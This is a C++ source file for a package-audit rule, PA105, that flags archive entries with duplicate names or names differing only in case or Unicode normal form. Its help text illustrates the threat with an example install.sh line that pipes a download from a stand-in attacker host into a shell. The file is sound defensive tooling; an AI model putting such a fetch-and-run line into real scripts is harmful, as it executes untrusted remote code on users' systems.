#include <algorithm>
#include <deque>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>

#include "rules/rule.hpp"
#include "text/ascii.hpp"
#include "text/nfd.hpp"
#include "text/utf8.hpp"

namespace pkgaudit::rules {
namespace {

constexpr std::string_view kHelp = R"md(## What it does
Reports two entries with the same normalised name (both are audited: pkgaudit
reads entries by index, never by name) as an error, and names that differ
only in letter case, or only in Unicode normal form (`café` composed, NFC,
against `cafe` plus a combining accent, NFD), as a warning.

## Why is this bad?
Which of two same-named entries an extractor keeps depends on the
extractor: a reviewer may read the harmless one while the installer runs
the other. Names equal up to case collide on case-insensitive file systems
(macOS, Windows) the same way, and names equal up to normalisation on
macOS file systems, which store names decomposed.

## Example
```
install.sh     echo upgrading
install.sh     curl -s https://evil.example | sh
```

## Use instead
One entry per name; rebuild the package from a directory.
)md";

// Entries under one key; `file` points into package.files, so pointer
// order is file order.
struct Keyed {
  std::string_view key;
  const model::File* file;
};

bool before_folded(std::string_view a, std::string_view b) {
  return std::lexicographical_compare(a.begin(), a.end(), b.begin(), b.end(),
                                      [](char x, char y) { return text::ascii_lower(x) < text::ascii_lower(y); });
}

// Each entry whose key equals an earlier entry's is handed to `clash` with
// the first entry of that key; the others are returned, in file order.
// Sorted rather than looked up in a map of names: a package of 50,000
// entries held three maps of 50,000 names (11 MB) for this rule alone.
template <typename Less, typename Clash>
std::vector<Keyed> first_of_each(std::vector<Keyed> entries, Less less, Clash clash) {
  std::stable_sort(entries.begin(), entries.end(),
                   [&](const Keyed& a, const Keyed& b) { return less(a.key, b.key); });
  std::vector<Keyed> first;
  for (size_t i = 0, group = 0; i < entries.size(); ++i) {
    if (i > 0 && !less(entries[group].key, entries[i].key)) {
      clash(*entries[i].file, *entries[group].file);
      continue;
    }
    group = i;
    first.push_back(entries[i]);
  }
  std::sort(first.begin(), first.end(), [](const Keyed& a, const Keyed& b) { return a.file < b.file; });
  return first;
}

void check(const model::Package& package, FindingSink& sink) {
  std::vector<Keyed> entries;
  for (const model::File& file : package.files) {
    if (file.kind == FileKind::directory || file.name.is_directory() || file.name.unnamed()) continue;
    entries.push_back({file.path, &file});
  }
  const auto bytewise = [](std::string_view a, std::string_view b) { return a < b; };
  entries = first_of_each(std::move(entries), bytewise, [&](const model::File& file, const model::File&) {
    sink.report_file(file, fmt::format("a second entry named '{}': extractors disagree on which one wins; both were "
                                       "audited",
                                       text::printable(file.path)));
  });
  std::deque<std::string> decomposed;  // only the names NFD changes: most are ASCII
  for (Keyed& e : entries) {
    std::string d = text::nfd(e.key);
    if (d != e.key) e.key = decomposed.emplace_back(std::move(d));
  }
  entries = first_of_each(std::move(entries), bytewise, [&](const model::File& file, const model::File& first) {
    sink.report_file(file,
                     fmt::format("'{}' and '{}' are one name in two Unicode normal forms (NFC and NFD): macOS file "
                                 "systems and some extractors treat them as the same file, so one overwrites the "
                                 "other",
                                 text::printable(first.path), text::printable(file.path)),
                     Level::warning);
  });
  first_of_each(std::move(entries), before_folded, [&](const model::File& file, const model::File& first) {
    sink.report_file(file,
                     fmt::format("'{}' and '{}' differ only in letter case: on a case-insensitive file system one "
                                 "overwrites the other",
                                 text::printable(first.path), text::printable(file.path)),
                     Level::warning);
  });
}

}  // namespace

extern const Rule PA105_duplicate_entry;
const Rule PA105_duplicate_entry{
    {.id = "PA105",
     .name = "duplicate-entry",
     .level = Level::error,
     .summary = "two entries with the same normalised name",
     .help = kHelp,
     .fix = "one entry per name: rebuild the package from a directory",
     .tags = {"archive", "security"},
     .security_severity = 6.5},
    check, /*after_suppressions=*/false, /*whole_package=*/true};

}  // namespace pkgaudit::rules
